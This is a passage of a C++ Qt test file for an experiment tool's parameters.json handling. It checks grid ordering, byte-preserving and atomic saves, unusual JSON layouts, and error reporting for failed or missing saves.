        QCOMPARE(conditions.at(0), QString("--momentum 0.9 --learning_rate 0.0005 --batch 32"));
        QCOMPARE(conditions.at(1), QString("--momentum 0.9 --learning_rate 0.0005 --batch 64"));
        QCOMPARE(conditions.at(2), QString("--momentum 0.9 --learning_rate 0.001 --batch 32"));
        QCOMPARE(conditions.at(11), QString("--momentum 0 --learning_rate 0.002 --batch 64"));

        // A grid set in another order: the conditions and the saved file follow it, the values keep their types.
        auto q = *p;
        q.setParameterGrid({ grid.at(2), grid.at(0), grid.at(1) });
        QCOMPARE(q.allConditions().at(2), QString("--batch 32 --momentum 0.9 --learning_rate 0.0005"));
        const auto back = Parameters::parse(q.toJson(), "parameters.json");
        error = back.error();
        QVERIFY2(back.isOk(), qPrintable(error.message()));
        QCOMPARE(back->allConditions(), q.allConditions());
        QCOMPARE(back->json().value("parameter_grid").toObject().value("learning_rate").toArray(),
                 (QJsonArray { 0.0005, 0.001, 0.002 }));
        QCOMPARE(back->json().value("parameter_grid").toObject().value("batch").toArray(), (QJsonArray { "32", 64 }));
    }

    void saveChangesOnlyTheEditedBytes_data()
    {
        QTest::addColumn<QByteArray>("indent");
        QTest::addColumn<QByteArray>("newline");
        QTest::newRow("4 spaces") << QByteArray("    ") << QByteArray("\n");
        QTest::newRow("tabs") << QByteArray("\t") << QByteArray("\n");
        QTest::newRow("2 spaces, CRLF") << QByteArray("  ") << QByteArray("\r\n");
    }

    void saveChangesOnlyTheEditedBytes()
    {
        QFETCH(QByteArray, indent);
        QFETCH(QByteArray, newline);
        const QByteArray original = handWritten(indent, newline);
        QTemporaryDir dir;
        const QString path = dir.filePath("parameters.json");
        auto write = [&](const QByteArray& text) {
            QFile f(path);
            return f.open(QIODevice::WriteOnly) && f.write(text) == text.size();
        };
        auto saved = [&](const std::function<void(Parameters&)>& edit) {
            Result error;
            auto p = Parameters::load(path);
            error = p.error();
            if (!p)
                return error.message().toUtf8();
            edit(*p);
            if (const Result r = p->save(path); !r)
                return r.message().toUtf8();
            QFile f(path);
            return f.open(QIODevice::ReadOnly) ? f.readAll() : QByteArray("unreadable");
        };
        auto replaced = [&](const QByteArray& from, const QByteArray& to) {
            QByteArray expected = original;
            const int at = static_cast<int>(expected.indexOf(from));
            return at < 0 ? QByteArray("not found: ") + from : expected.replace(at, from.size(), to);
        };

        // Nothing changed: not a byte moves.
        QVERIFY(write(original));
        QCOMPARE(saved([](Parameters&) {}), original);

        // One number, as the Settings tab's spin box sets it.
        QCOMPARE(saved([](Parameters& p) { p.setValue("max_parallel", 4); }),
                 replaced("\"max_parallel\": 2", "\"max_parallel\": 4"));

        // One grid value, as the Settings tab and the grid dialog set the grid: all values as text, in order.
        QVERIFY(write(original));
        QCOMPARE(saved([](Parameters& p) {
                     Parameters::Grid grid = p.parameterGrid();
                     grid[1].second[2] = "0.003";
                     p.setParameterGrid(grid);
                 }),
                 replaced("1e-3, 0.002]", "1e-3, 0.003]"));

        // One condition of the list.
        QVERIFY(write(original));
        QCOMPARE(saved([](Parameters& p) {
                     p.setConditions({ "--seed 1", "--seed 7" });
                 }),
                 replaced("\"--seed 2\"", "\"--seed 7\""));

        // A new key goes last, in the file's indentation; a removed one takes its line along.
        QVERIFY(write(original));
        QCOMPARE(saved([](Parameters& p) { p.setValue("max_retries", 2); }),
                 replaced("\"backend\": \"local\"" + newline,
                          "\"backend\": \"local\"," + newline + indent + "\"max_retries\": 2" + newline));
        QVERIFY(write(original));
        QCOMPARE(saved([](Parameters& p) { p.setValue("parameter_grid_comment", QJsonValue::Undefined); }),
                 replaced(indent + "\"parameter_grid_comment\": \"momentum varies slowest\"," + newline, ""));
        QVERIFY(write(original));
        QCOMPARE(saved([](Parameters& p) { p.setValue("backend", QJsonValue::Undefined); }),
                 replaced("," + newline + indent + "\"backend\": \"local\"", ""));

        // A new grid key goes after the others, its values numbers as typed.
        QVERIFY(write(original));
        const QByteArray twice = indent + indent;
        QCOMPARE(saved([](Parameters& p) {
                     Parameters::Grid grid = p.parameterGrid();
                     grid.append({ "dropout", { "0.1", "0.25" } });
                     p.setParameterGrid(grid);
                 }),
                 replaced("\"batch\": [\"32\", 64]" + newline,
                          "\"batch\": [\"32\", 64]," + newline + twice + "\"dropout\": [0.1, 0.25]" + newline));
    }

    void oddLayoutsStayValid_data()
    {
        QTest::addColumn<QByteArray>("text");
        QTest::newRow("comma first") << QByteArray("{ \"experiment_name\": \"x\"\n, \"max_parallel\": 2\n, "
                                                   "\"parameter_grid\": {\"b\": [1]\n  , \"a\": [2]}\n}\n");
        QTest::newRow("one line") << QByteArray(
            R"({"experiment_name":"x","max_parallel":2,"parameter_grid":{"b":[1]}})");
        QTest::newRow("space before colon")
            << QByteArray("{\n  \"experiment_name\" : \"x\",\n  \"parameter_grid\" : {}\n}");
        QTest::newRow("lists one item per line")
            << QByteArray("{\n\t\"experiment_name\": \"x\",\n\t\"experiment_conditions\": [\n\t\t\"--a 1\"\n\t]\n}\n");
        QTest::newRow("only the name") << QByteArray("{\"experiment_name\": \"x\"}");
    }

    void oddLayoutsStayValid()
    {
        // Whatever the layout, every kind of edit saves as JSON holding exactly the edit.
        QFETCH(QByteArray, text);
        Result error;
        auto p = Parameters::parse(text, "parameters.json");
        error = p.error();
        QVERIFY2(p.isOk(), qPrintable(error.message()));
        QCOMPARE(p->toJson(), text);
        p->setValue("notes",
                    QJsonObject { { "owner", "ada" }, { "list", QJsonArray { 1, QJsonObject { { "k", 2 } } } } });
        p->setValue("max_parallel", QJsonValue::Undefined);
        p->setConditions({ "--a 1", "--a 2", "--a 3" });
        p->setParameterGrid({ { "c", { "1", "x y" } }, { "b", { "1", "2" } } });
        p->setValue("hosts", QJsonArray { "u@h1", "u@h2" });
        const QByteArray saved = p->toJson();
        QJsonParseError parseError;
        const QJsonDocument doc = QJsonDocument::fromJson(saved, &parseError);
        QVERIFY2(parseError.error == QJsonParseError::NoError, saved.constData());
        QCOMPARE(doc.object(), p->json());
        const auto back = Parameters::parse(saved, "parameters.json");
        error = back.error();
        QVERIFY2(back.isOk(), qPrintable(error.message() + "\n" + saved));
        QCOMPARE(back->allConditions(), p->allConditions());
    }

    void untouchedFilesSaveByteForByte()
    {
        // Every parameters.json shipped, and the fuzzer's seeds, come back exactly as read.
        const QString root = qEnvironmentVariable("LOGISTICIAN_DATA_DIR");
        QStringList files { root + "/templates/experiment/python/parameters.json",
                            root + "/templates/experiment/shell/parameters.json",
                            root + "/examples/addition/experiments/1/parameters.json",
                            root + "/examples/optimise/experiments/1/parameters.json" };
        for (const QString& name : QDir(root + "/tests/fuzz/corpus/parameters").entryList(QDir::Files))
            files << root + "/tests/fuzz/corpus/parameters/" + name;
        int loaded = 0;
        for (const QString& file : std::as_const(files)) {
            QFile f(file);
            QVERIFY2(f.open(QIODevice::ReadOnly), qPrintable(file));
            const QByteArray text = f.readAll();
            Result error;
            const auto p = Parameters::parse(text, file);
            error = p.error();
            if (!p)
                continue; // the fuzzer's bad seeds
            ++loaded;
            QCOMPARE(p->toJson(), text);
        }
        QVERIFY(loaded >= 5);
    }

    void writtenAnewWithoutText()
    {
        // Parameters made in memory: a complete file, keys in the order set, short lists on one line.
        Parameters p(QJsonObject { { "experiment_name", "x" } });
        p.setConditions({ "--a 1", "--a 2" });
        p.setParameterGrid({ { "z", { "1", "2" } }, { "a", { "x y" } } });
        QCOMPARE(
            p.toJson(),
            QByteArray("{\n    \"experiment_name\": \"x\",\n    \"experiment_conditions\": [\"--a 1\", \"--a 2\"],\n"
                       "    \"parameter_grid\": {\n        \"z\": [1, 2],\n        \"a\": [\"x y\"]\n    }\n}\n"));
    }

    void saveKeepsUnknownKeysAndIsAtomic()
    {
        QTemporaryDir dir;
        const QString path = dir.filePath("parameters.json");
        const QByteArray original
            = R"({"experiment_name": "x", "future_key": {"nested": [1, 2]}, "note_comment": "keep me"})";
        QFile f(path);
        QVERIFY(f.open(QIODevice::WriteOnly));
        f.write(original);
        f.close();

        Result error;
        auto p = Parameters::load(path);
        error = p.error();
        QVERIFY(p.isOk());
        p->setConditions({ "--a 1" });
        Result saveError;
        struct stat before
        {
        };
        QCOMPARE(::stat(QFile::encodeName(path).constData(), &before), 0);
        saveError = p->save(path);
        QVERIFY2(saveError, qPrintable(saveError.message()));
        struct stat after
        {
        };
        QCOMPARE(::stat(QFile::encodeName(path).constData(), &after), 0);
        // Written beside and renamed over: a reader never sees half a file.
        QVERIFY(before.st_ino != after.st_ino);

        auto back = Parameters::load(path);
        error = back.error();
        QVERIFY(back.isOk());
        QCOMPARE(back->json().value("future_key").toObject().value("nested").toArray().size(), 2);
        QCOMPARE(back->json().value("note_comment").toString(), QString("keep me"));
        QCOMPARE(back->conditions(), QStringList { "--a 1" });

        // A save that cannot complete leaves the old file untouched and says why.
        QFile::setPermissions(dir.path(), QFile::ReadOwner | QFile::ExeOwner);
        const bool rootCanWriteAnyway = QFile(dir.filePath("probe")).open(QIODevice::WriteOnly);
        if (!rootCanWriteAnyway) {
            p->setConditions({ "--changed" });
            saveError = p->save(path);
            QVERIFY(!saveError);
            QCOMPARE(saveError.kind(), Result::Kind::Failed);
            QVERIFY(saveError.message().contains(path));
            QCOMPARE(Parameters::load(path)->conditions(), QStringList { "--a 1" });
        }
        QFile::setPermissions(dir.path(), QFile::ReadOwner | QFile::WriteOwner | QFile::ExeOwner);
        QFile::remove(dir.filePath("probe"));
        // A folder that does not exist: the save fails with the path named and creates nothing.
        saveError = p->save(dir.filePath("missing/parameters.json"));
        QVERIFY(!saveError);
        QCOMPARE(saveError.exitCode(), 1);
        QVERIFY(saveError.message().contains("missing/parameters.json"));
        QVERIFY(!QFile::exists(dir.filePath("missing")));
        // No temporary file is left behind either way.
        QCOMPARE(QDir(dir.path()).entryList(QDir::Files | QDir::Hidden).filter("parameters.json").size(), 1);
    }

    void missingFileIsReported()
    {
        Result error;
        error = Parameters::load("/nonexistent/parameters.json").error();
        QVERIFY(!error.isOk());
        QCOMPARE(error.message(), QString("/nonexistent/parameters.json: no such file"));
    }
};

QTEST_GUILESS_MAIN(TestParameters)
#include "TestParameters.moc"
